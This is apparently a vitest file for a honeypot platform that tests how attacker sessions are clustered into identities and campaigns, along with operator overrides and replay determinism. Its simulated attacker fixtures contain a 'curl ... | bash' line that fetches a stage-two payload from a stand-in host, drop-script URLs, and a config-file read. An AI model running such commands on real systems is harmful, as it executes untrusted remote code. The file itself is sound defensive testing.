import { hash } from 'node:crypto'
import { attackerId } from '@decnet/kernel'
import { type Bus, createMemoryBus } from '@decnet/kernel/bus'
import type { NewLogRecord } from '@decnet/kernel/log'
import type { AnyWorker } from '@decnet/kernel/worker'
import { afterEach, beforeEach, expect, it } from 'vitest'
import { groupId } from '../domain/grouping/group-id.ts'
import { attackerAttribution } from '../store/behaviour.ts'
import { findCampaign, listCampaigns } from '../store/campaigns.ts'
import { onEachDatabase } from '../store/fixtures/each-database.ts'
import { canonicalOf, groupEvidence } from '../store/groups.ts'
import { findIdentity, identitiesOf, listIdentities } from '../store/identities.ts'
import { logTable, type Tx } from '../store/log-table.ts'
import type { Store } from '../store/open.ts'
import { stateLinks } from '../store/operator-links.ts'
import attribution from './attribution/worker.ts'
import { campaignClusterer } from './campaign-clusterer/worker.ts'
import credentials from './credentials/worker.ts'
import { event, settle, T0, type Visit, visit } from './folds.fixture.ts'
import { identityClusterer } from './identity-clusterer/worker.ts'
import profiler from './profiler/worker.ts'

const rare: Omit<Visit, 'ip'> = {
  hassh: 'b5752e36ba6c5979a575e43178908adf',
  logins: [['deploy', 'Kestrel-over-the-quarry-91']],
  commands: ['curl -s http://198.51.100.44/.x/stage2 | bash', 'cat /opt/billing/ledger.conf'],
  files: ['9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'],
}
const strangers = (count: number): NewLogRecord[] =>
  Array.from({ length: count }, (_, n) =>
    visit({
      ip: `198.51.100.${n + 1}`,
      at: n * 60_000,
      hassh: '0a07365cc01fa9fc82608ba4019af499',
      logins: [['root', '123456']],
      commands: ['uname -a'],
    }),
  ).flat()

/** One measurement of one trait. */
const habit = (ip: string, n: number, value: string): NewLogRecord => {
  const ts = T0 / 1_000 + n * 60
  const body = {
    ...{ id: n.toString(16).padStart(32, '0'), v: 1, ts, primitive: 'motor.input_modality', value, confidence: 0.9, source: 'test' },
    ...{ window: { start_ts: ts, end_ts: ts }, evidence_ref: `recording-${n}`, identity_ref: null, attacker_uuid: attackerId(ip) },
  }
  return { ...event({ type: 'observation', at: n * 60_000, ip }), topic: 'attacker.observation.motor.input_modality', body }
}

const page = { addresses: 1, sortBy: 'addresses', order: 'desc', limit: 100, offset: 0 } as const
const [A, B] = ['203.0.113.7', '192.0.2.200']

onEachDatabase('identities', ({ open }) => {
  let store: Store
  let bus: Bus
  let workers: readonly AnyWorker<Tx>[]
  beforeEach(async () => {
    store = await open()
    bus = createMemoryBus()
    workers = [credentials, profiler, identityClusterer(), campaignClusterer()] as readonly AnyWorker<Tx>[]
  })
  afterEach(async () => {
    await bus.close()
    await store.close()
  })
  const feed = (...records: NewLogRecord[]) => settle(store, bus, workers, records)
  const say = async (kind: 'confirm' | 'forbid' | 'withdraw', at: number) => {
    await stateLinks(logTable(store), [{ kind, a: attackerId(A), b: attackerId(B), by: 'ada', reason: 'seen together' }], T0 + at)
    await feed()
  }
  const together = async () => {
    const found = await identitiesOf(store.db, [attackerId(A), attackerId(B)])
    expect(found.size).toBe(2)
    return found.get(attackerId(A)) === found.get(attackerId(B))
  }
  const topics = async (pattern: string) =>
    (await store.db.selectFrom('log').select(['topic', 'body']).where('topic', 'like', pattern).orderBy('seq').execute()).map(
      ({ topic }) => topic,
    )

  const bodies = async (topic: string) =>
    (await store.db.selectFrom('log').select('body').where('topic', '=', topic).orderBy('seq').execute()).map(({ body }) =>
      JSON.parse(body),
    )

  it('I1: two addresses with one rare tool and one rare password are one; fifty with a popular library and password stay apart', async () => {
    await feed(...strangers(50))
    const before = await topics('identity.%')
    await feed(...visit({ ip: A, ...rare }))
    await feed(...visit({ ip: B, at: 600_000, ...rare }))
    const { total, data } = await listIdentities(store.db, page)
    expect([total, data[0]?.address_count, data[1]?.address_count]).toEqual([51, 2, 1])
    expect(data[0]?.addresses.toSorted()).toEqual([B, A].sort())
    expect((await topics('identity.%')).slice(before.length)).toEqual(['identity.formed', 'identity.observation.linked'])
    const evidence = await groupEvidence(store.db, { layer: 'identity', uuid: data[0]?.uuid ?? '' })
    const [edge] = evidence?.edges ?? []
    expect(edge?.probability).toBeGreaterThan(0.9)
    expect(edge?.reasons.filter(({ weight }) => weight > 0).length).toBeGreaterThanOrEqual(2)
    expect(evidence?.decisions.map(({ kind }) => kind)).toEqual(['linked', 'formed'])
  })

  it('I1: what is said of identities is said of no attacker who only came last', async () => {
    await feed(...visit({ ip: A, ...rare }), ...visit({ ip: B, at: 600_000, ...rare }), ...strangers(20))
    const said = await store.db.selectFrom('log').select(['attacker_ip', 'decky']).where('topic', 'like', 'identity.%').execute()
    expect(said.length).toBeGreaterThan(0)
    expect(said.filter(({ attacker_ip, decky }) => attacker_ip !== null || decky !== null)).toEqual([])
  })

  it('I1: what an operator says holds against new evidence; a split identity keeps its uuid, and taking it back joins them again', async () => {
    await feed(...strangers(20), ...visit({ ip: A, ...rare }), ...visit({ ip: B, at: 600_000, ...rare }))
    expect(await together()).toBe(true)
    const before = (await identitiesOf(store.db, [attackerId(A)])).get(attackerId(A))
    await say('forbid', 700_000)
    expect(await together()).toBe(false)
    await feed(...visit({ ip: B, at: 800_000, ...rare }), ...visit({ ip: A, at: 900_000, ...rare }))
    expect(await together()).toBe(false)
    await say('withdraw', 1_000_000)
    expect(await together()).toBe(true)
    expect((await identitiesOf(store.db, [attackerId(B)])).get(attackerId(B))).toBe(before)
  })

  it('I1: an identity that is parted keeps its uuid where its founder is, however many go, and so it is when the log is read anew', async () => {
    const three = [A, B, '192.0.2.77']
    const came = [...strangers(20), ...three.flatMap((ip, n) => visit({ ip, at: n * 600_000, ...rare }))]
    const identities = () => Promise.all(three.map(async (ip) => (await identitiesOf(store.db, [attackerId(ip)])).get(attackerId(ip))))
    const part = (from: string, ...others: readonly string[]) => {
      const apart = others.map((b) => ({ kind: 'forbid' as const, a: attackerId(from), b: attackerId(b), by: 'ada', reason: null }))
      return stateLinks(logTable(store), apart, T0 + 2_000_000)
    }
    await feed(...came)
    const [uuid, ...same] = await identities()
    expect(same).toEqual([uuid, uuid])
    await part(A, ...three.slice(1))
    await feed()
    const [founder, ...gone] = await identities()
    expect(founder).toBe(uuid)
    expect(gone[0]).not.toBe(uuid)
    expect(gone[1]).toBe(gone[0])
    await store.close()
    store = await open()
    workers = [credentials, profiler, identityClusterer(), campaignClusterer()] as readonly AnyWorker<Tx>[]
    await settle(store, bus, [], came)
    await part(A, ...three.slice(1))
    await feed()
    expect(await identities()).toEqual([founder, ...gone])
  })

  it('I1: identities that an operator joins are merged under the elder; taken back, the younger stands under its own uuid', async () => {
    await feed(...strangers(20), ...visit({ ip: A, logins: [['root', 'a']] }), ...visit({ ip: B, at: 600_000, logins: [['root', 'b']] }))
    const [elder, younger] = [...(await identitiesOf(store.db, [attackerId(A), attackerId(B)])).entries()]
      .sort(([a]) => (a === attackerId(A) ? -1 : 1))
      .map(([, uuid]) => uuid)
    expect(elder).not.toBe(younger)
    await say('confirm', 700_000)
    expect(await topics('identity.merged')).toHaveLength(1)
    expect((await findIdentity(store.db, younger ?? ''))?.uuid).toBe(elder)
    expect((await findIdentity(store.db, elder ?? ''))?.merged.map(({ uuid }) => uuid)).toEqual([younger])
    await say('withdraw', 800_000)
    expect(await topics('identity.unmerged')).toHaveLength(1)
    expect((await findIdentity(store.db, younger ?? ''))?.addresses).toEqual([B])
    expect((await findIdentity(store.db, elder ?? ''))?.merged).toEqual([])
  })

  it('I2: identities that share a rare command server make a campaign, announced to both sides', async () => {
    const server = ['http://203.0.113.99:8443/drop/ivy.sh']
    await feed(
      ...strangers(20),
      ...visit({
        ip: A,
        hassh: '11111111111111111111111111111111',
        fetches: server,
        files: ['a'.repeat(64)],
        logins: [['pi', 'quartz-lamp']],
      }),
      ...visit({
        ip: B,
        at: 3_600_000,
        hassh: '22222222222222222222222222222222',
        fetches: server,
        files: ['a'.repeat(64)],
        logins: [['git', 'sunken-bell']],
      }),
    )
    expect(await together()).toBe(false)
    const { total, data } = await listCampaigns(store.db, { sortBy: 'recent', order: 'desc', limit: 10, offset: 0 })
    expect([total, data[0]?.identity_count, data[0]?.address_count]).toEqual([1, 2, 2])
    expect(data[0]?.shared.map(({ value }) => value).join()).toContain('203.0.113.99')
    expect(await topics('campaign.identity.assigned')).toHaveLength(2)
    expect(await topics('identity.campaign.assigned')).toHaveLength(2)
    expect((await findCampaign(store.db, data[0]?.uuid ?? ''))?.identities).toHaveLength(2)
  })

  it('I2: a campaign whose identities are both merged into elder ones is dissolved, and that is said', async () => {
    const [early, late] = ['11.1.1.1', '22.2.2.2']
    const file = { fetches: ['http://198.51.100.44:8443/s2'], files: ['e'.repeat(64)] }
    const x = {
      hassh: 'a1'.repeat(16),
      commands: ['crontab -l | grep kestrel', 'ps -ef | grep kestreld'],
      logins: [['backup', 'Xx-kestrel-71']] as const,
    }
    const y = {
      hassh: 'b2'.repeat(16),
      commands: ['crontab -l | grep osprey', 'ps -ef | grep ospreyd'],
      logins: [['ops', 'Yy-osprey-12']] as const,
    }
    const hour = 3_600_000
    await feed(...visit({ ip: early, logins: [['root', '123456']] }), ...visit({ ip: late, at: 60_000, logins: [['root', '123456']] }))
    await feed(...visit({ ip: A, at: hour, ...x, ...file }), ...visit({ ip: B, at: 2 * hour, ...y, ...file }))
    const { data } = await listCampaigns(store.db, { sortBy: 'recent', order: 'desc', limit: 10, offset: 0 })
    expect(data.map(({ identity_count }) => identity_count)).toEqual([2])
    await feed(...visit({ ip: early, at: 30 * hour, ...x }), ...visit({ ip: late, at: 30 * hour, ...y }))
    expect(await topics('identity.merged')).toHaveLength(2)
    const assigned = (await bodies('campaign.identity.assigned')) as { identity_uuid: string; campaign_uuid: string | null }[]
    const last = new Map(assigned.map(({ identity_uuid, campaign_uuid }) => [identity_uuid, campaign_uuid]))
    const members = await store.db.selectFrom('group_members').select(['member', 'group_uuid']).where('layer', '=', 'campaign').execute()
    expect([...last].filter(([, campaign]) => campaign !== null).sort()).toEqual(
      members.map(({ member, group_uuid }) => [member, group_uuid]).sort(),
    )
    const { decisions = [] } = (await groupEvidence(store.db, { layer: 'campaign', uuid: data[0]?.uuid ?? '' })) ?? {}
    expect(decisions.map(({ kind }) => kind)).toEqual(['released', 'released', 'formed'])
  })

  it('I2: who comes day by day is there all the time, though it shows nothing new: live as after a restart', async () => {
    const day = 24 * 3_600_000
    const shared = { fetches: ['http://203.0.113.99:8443/drop/ivy.sh'], files: ['a'.repeat(64)] }
    const first = { ip: A, hassh: '1'.repeat(32), logins: [['pi', 'quartz-lamp']] as const }
    await feed(...strangers(20), ...visit({ ...first, ...shared }))
    for (let n = 1; n < 30; n += 1) await feed(...visit({ ...first, at: n * day }))
    await feed(...visit({ ip: B, at: 30 * day, hassh: '2'.repeat(32), logins: [['git', 'sunken-bell']], ...shared }))
    const logOdds = async () => {
      const [campaign] = (await listCampaigns(store.db, { sortBy: 'recent', order: 'desc', limit: 10, offset: 0 })).data
      const { edges = [] } = (await groupEvidence(store.db, { layer: 'campaign', uuid: campaign?.uuid ?? '' })) ?? {}
      return edges.map(({ log_odds }) => log_odds)
    }
    const live = await logOdds()
    workers = [credentials, profiler, identityClusterer(), campaignClusterer()] as readonly AnyWorker<Tx>[]
    await feed(...visit({ ip: B, at: 30 * day + 3_600_000, hassh: '3'.repeat(32) }))
    // A month apart takes more than one from it.
    expect(await logOdds()).toEqual([expect.closeTo(live[0] ?? 0, 0)])
  })

  it('I1: campaigns that come to share more are merged under the elder; once strangers show it too, the younger stands under its own uuid', async () => {
    const crews = [
      { own: 'oak', ips: [B, '100.64.9.5'] },
      { own: 'ivy', ips: [A, '192.0.2.77'] },
    ]
    const all = crews.flatMap(({ ips }) => ips)
    const shows = (name: string, day: number) => (ip: string, n: number) =>
      visit({
        ip,
        at: day * 86_400_000 + n * 60_000,
        hassh: hash('md5', ip),
        fetches: [`http://${name}.example:8443/drop.sh`],
        files: [hash('sha256', name)],
      })
    const identities = async () => {
      const found = await identitiesOf(store.db, all.map(attackerId))
      return all.map((ip) => found.get(attackerId(ip)) ?? '')
    }
    const campaigns = async () => {
      const members = await identities()
      const found = await canonicalOf(store.db, 'campaign', members)
      return members.map((identity) => found.get(identity))
    }
    const mergedInto = async (uuid: string) =>
      (await store.db.selectFrom('actor_groups').select('merged_into_uuid').where('uuid', '=', uuid).executeTakeFirstOrThrow())
        .merged_into_uuid
    for (const [day, { own, ips }] of crews.entries()) await feed(...ips.flatMap(shows(own, day)))
    const [elder = '', , younger = ''] = await campaigns()
    expect(await campaigns()).toEqual([elder, elder, younger, younger])
    const [before, after] = [await findCampaign(store.db, elder), await findCampaign(store.db, younger)]
    expect([before?.uuid, after?.uuid]).toEqual([elder, younger])
    expect(Date.parse(before?.formed_at ?? '')).toBeLessThan(Date.parse(after?.formed_at ?? ''))
    // So it is not the order of their uuids that decides.
    expect(elder > younger).toBe(true)
    const members = await identities()
    expect(new Set(members).size).toBe(4)
    const assigned = await bodies('campaign.identity.assigned')
    const joins = (campaign_uuid: string) => (identity_uuid: string) => ({ identity_uuid, campaign_uuid, prior_campaign_uuid: null })
    expect(new Set(assigned)).toEqual(new Set([...members.slice(0, 2).map(joins(elder)), ...members.slice(2).map(joins(younger))]))
    expect(assigned).toHaveLength(4)

    await feed(...all.flatMap(shows('elm', 2)))
    expect(await campaigns()).toEqual([elder, elder, elder, elder])
    expect(await bodies('campaign.merged')).toEqual([{ winner_uuid: elder, loser_uuid: younger }])
    expect([await mergedInto(elder), await mergedInto(younger)]).toEqual([null, elder])
    const one = await findCampaign(store.db, younger)
    expect([one?.uuid, one?.identity_count, one?.merged.map(({ uuid }) => uuid)]).toEqual([elder, 4, [younger]])

    const strange = Array.from({ length: 40 }, (_, n) => `198.18.${n}.7`)
    await feed(...strange.flatMap(shows('elm', 3)))
    expect(await campaigns()).toEqual([elder, elder, younger, younger])
    expect(await bodies('campaign.unmerged')).toEqual([{ resurrected_uuid: younger, former_winner_uuid: elder }])
    expect([await mergedInto(elder), await mergedInto(younger)]).toEqual([null, null])
    for (const [uuid, own] of [
      [elder, members.slice(0, 2)],
      [younger, members.slice(2)],
    ] as const) {
      const now = await findCampaign(store.db, uuid)
      expect([now?.uuid, now?.merged, now?.identities.map(({ uuid }) => uuid).sort()]).toEqual([uuid, [], own.toSorted()])
    }
    // Their evidence is alike, and neither keeps what was said of both together.
    const sure = await Promise.all([elder, younger].map(async (uuid) => (await findCampaign(store.db, uuid))?.confidence))
    expect(sure[0]).toBeCloseTo(sure[1] ?? 0, 2)
    expect(await identities()).toEqual(members)
    expect((await listCampaigns(store.db, { sortBy: 'recent', order: 'desc', limit: 10, offset: 0 })).total).toBe(2)

    // Who was assigned once stays so: that campaigns are merged and parted says the rest.
    expect(await bodies('campaign.formed')).toHaveLength(2)
    expect(await bodies('campaign.merged')).toHaveLength(1)
    expect(await bodies('campaign.identity.assigned')).toEqual(assigned)
    expect(await bodies('identity.campaign.assigned')).toEqual(assigned)
  })

  it('the same log read by another replica, or anew from its beginning, gives the same identities', async () => {
    const records = [...strangers(10), ...visit({ ip: A, ...rare }), ...visit({ ip: B, at: 600_000, ...rare })]
    await feed(...records.slice(0, 30))
    workers = [credentials, profiler, identityClusterer(), campaignClusterer()] as readonly AnyWorker<Tx>[]
    await feed(...records.slice(30))
    const rows = async () => [
      await store.db.selectFrom('actor_groups').select(['uuid', 'layer', 'merged_into_uuid']).orderBy('uuid').execute(),
      await store.db.selectFrom('group_members').select(['layer', 'member', 'group_uuid']).orderBy('member').execute(),
    ]
    const once = await rows()
    await store.close()
    store = await open()
    await feed(...records)
    expect(await rows()).toEqual(once)
  })

  it('A5: what the clusterer makes of an attacker does not depend on whether attribution had a stub of it before, nor does what is known of it', async () => {
    const habits = [A, B, '198.51.100.3', '192.0.2.77'].flatMap((ip, whose) =>
      Array.from({ length: 4 + whose }, (_, n) => habit(ip, whose * 100 + n, n % 3 === 2 ? 'pasted' : 'typed')),
    )
    const records = [...strangers(10), ...[A, B].flatMap((ip, n) => visit({ ip, at: n * 600_000, ...rare })), ...habits]
    const passes = [
      () => [[identityClusterer()], [attribution]],
      () => [[attribution], [identityClusterer()], [attribution]],
      () => [[attribution, identityClusterer()]],
    ]
    const found = []
    for (const pass of passes) {
      await store.close()
      store = await open()
      await settle(store, bus, [credentials, profiler] as readonly AnyWorker<Tx>[], records)
      for (const folds of pass()) await settle(store, bus, folds as readonly AnyWorker<Tx>[])
      const { db } = store
      found.push({
        groups: await db.selectFrom('actor_groups').selectAll().orderBy('uuid').execute(),
        members: await db.selectFrom('group_members').selectAll().orderBy('member').execute(),
        // Their place in the log depends on the other folds that write to it.
        decisions: (await db.selectFrom('group_decisions').selectAll().orderBy('id').execute()).map(({ seq: _, ...decision }) => decision),
        said: await db.selectFrom('log').select(['id', 'topic', 'body']).where('topic', 'like', 'identity.%').orderBy('id').execute(),
        traits: await db.selectFrom('attribution_state').selectAll().orderBy('identity_uuid').execute(),
      })
    }
    const [first, ...others] = found
    for (const other of others) expect(other).toEqual(first)
    const standing = first?.groups.map(({ uuid }) => uuid)
    expect(first?.said.flatMap(({ topic, body }) => (topic === 'identity.formed' ? [JSON.parse(body).identity_uuid] : [])).sort()).toEqual(
      standing,
    )
    expect(
      first?.decisions
        .filter(({ kind }) => kind === 'formed')
        .map(({ group_uuid }) => group_uuid)
        .sort(),
    ).toEqual(standing)
    expect(standing).toContain(groupId('identity', attackerId(A)))
    expect(first?.traits.map(({ observation_count }) => observation_count).sort()).toEqual([6, 7, 9])
    expect((await attackerAttribution(store.db, attackerId('192.0.2.77'))).primitives).toHaveLength(1)
  })
})
